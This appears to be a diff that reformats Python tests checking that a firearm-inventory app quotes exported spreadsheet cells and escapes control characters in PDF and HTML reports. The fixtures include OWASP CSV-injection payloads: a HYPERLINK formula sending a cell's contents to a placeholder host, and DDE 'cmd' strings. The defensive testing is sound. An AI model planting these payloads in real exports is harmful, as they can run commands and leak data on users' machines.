@@ -21,9 +21,14 @@ from coldcheck.service import ColdCheck
 from support.service_db import PID
 
 # The OWASP examples of CSV injection, and the two characters it adds to the four signs.
-FORMULAS = ["=HYPERLINK(\"https://example.invalid/?\"&A1,\"Error\")",
-            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("https://example.invalid/?"&A1,"Error")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 SIGNS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -33,39 +38,64 @@ def _bound_book(app: ColdCheck) -> list[dict[str, str]]:
 
 
 def _register(app: ColdCheck, item_id: str, text: str) -> None:
-    app.execute(PID, c.RegisterItem(
-        actor="rosa", item_id=item_id, kind=ItemKind.FIREARM, serial=text, tag=item_id,
-        description=text, location_id="truck-safe", chambers=1, caliber=text,
-        manufacturer=text, model=text, source=text, importer=text))
+    app.execute(
+        PID,
+        c.RegisterItem(
+            actor="rosa",
+            item_id=item_id,
+            kind=ItemKind.FIREARM,
+            serial=text,
+            tag=item_id,
+            description=text,
+            location_id="truck-safe",
+            chambers=1,
+            caliber=text,
+            manufacturer=text,
+            model=text,
+            source=text,
+            importer=text,
+        ),
+    )
 
 
 def test_bound_book_cells_that_a_spreadsheet_would_run_are_quoted(planned: ColdCheck) -> None:
     for n, formula in enumerate(FORMULAS):
         _register(planned, f"odd-{n}", formula)
-        planned.execute(PID, c.DisposeItem(actor="rosa", item_id=f"odd-{n}",
-                                           transferee=formula))
+        planned.execute(PID, c.DisposeItem(actor="rosa", item_id=f"odd-{n}", transferee=formula))
     rows = {row["item_id"]: row for row in _bound_book(planned)}
     for n, formula in enumerate(FORMULAS):
         row = rows[f"odd-{n}"]
-        typed = {k: v for k, v in row.items() if k not in (
-            "item_id", "acquisition_date", "disposition_date", "type",
-            "acquisition_event", "disposition_event")}
+        typed = {
+            k: v
+            for k, v in row.items()
+            if k
+            not in (
+                "item_id",
+                "acquisition_date",
+                "disposition_date",
+                "type",
+                "acquisition_event",
+                "disposition_event",
+            )
+        }
         assert len(typed) == 7  # source, manufacturer, importer, model, serial, …
         for field, cell in typed.items():
             assert cell == "'" + visible(formula), (field, cell)
 
 
 def test_bound_book_keeps_ordinary_text_as_typed(planned: ColdCheck) -> None:
-    _register(planned, "plain-1", "Colt, 1873 \"Peacemaker\"\nSanta Fe, NM")
+    _register(planned, "plain-1", 'Colt, 1873 "Peacemaker"\nSanta Fe, NM')
     row = next(r for r in _bound_book(planned) if r["item_id"] == "plain-1")
-    assert row["serial_number"] == "Colt, 1873 \"Peacemaker\"\nSanta Fe, NM"
+    assert row["serial_number"] == 'Colt, 1873 "Peacemaker"\nSanta Fe, NM'
 
 
-@settings(max_examples=30, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(text=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40))
-def test_no_bound_book_cell_starts_a_formula_or_holds_a_control(planned: ColdCheck,
-                                                                text: str) -> None:
+def test_no_bound_book_cell_starts_a_formula_or_holds_a_control(
+    planned: ColdCheck, text: str
+) -> None:
     item_id = f"any-{len(planned.state(PID).items)}"
     _register(planned, item_id, text)
     row = next(r for r in _bound_book(planned) if r["item_id"] == item_id)
@@ -110,8 +140,7 @@ def _concern_dossier(app: ColdCheck, word: str = LONG_WORD) -> dossier.Dossier:
 
 
 @pytest.mark.parametrize("word", [LONG_WORD, LONGEST_WORD], ids=["2000", "3990"])
-def test_pdf_dossier_wraps_a_word_of_thousands_of_characters(planned: ColdCheck,
-                                                              word: str) -> None:
+def test_pdf_dossier_wraps_a_word_of_thousands_of_characters(planned: ColdCheck, word: str) -> None:
     data = render.pdf(_concern_dossier(planned, word))
     assert data.startswith(b"%PDF-")
     assert data.rstrip().endswith(b"%%EOF")
@@ -124,8 +153,15 @@ def test_pdf_dossier_wraps_a_word_of_thousands_of_characters(planned: ColdCheck,
 
 def test_pdf_dossier_spells_out_what_its_font_cannot_draw(planned: ColdCheck) -> None:
     drawn = pdf_text(render.pdf(_concern_dossier(planned)))
-    for escape in ("\\U0001f52b", "\\u4e2d\\u6587", "\\u05e2", "\\u0627", "\\x1b[2J",
-                   "\\u202eevil", "[/bold] <b>"):
+    for escape in (
+        "\\U0001f52b",
+        "\\u4e2d\\u6587",
+        "\\u05e2",
+        "\\u0627",
+        "\\x1b[2J",
+        "\\u202eevil",
+        "[/bold] <b>",
+    ):
         assert escape in drawn, escape
     assert "\x1b" not in drawn
 
@@ -139,8 +175,9 @@ def test_html_dossier_escapes_and_spells_out_what_was_typed(planned: ColdCheck) 
     assert "\u202e" not in page
 
 
-@settings(max_examples=10, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(text=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=200))
 def test_any_text_makes_a_pdf_and_a_page(planned: ColdCheck, text: str) -> None:
     planned.execute(PID, c.RaiseConcern(actor="jack", text="x" + text))
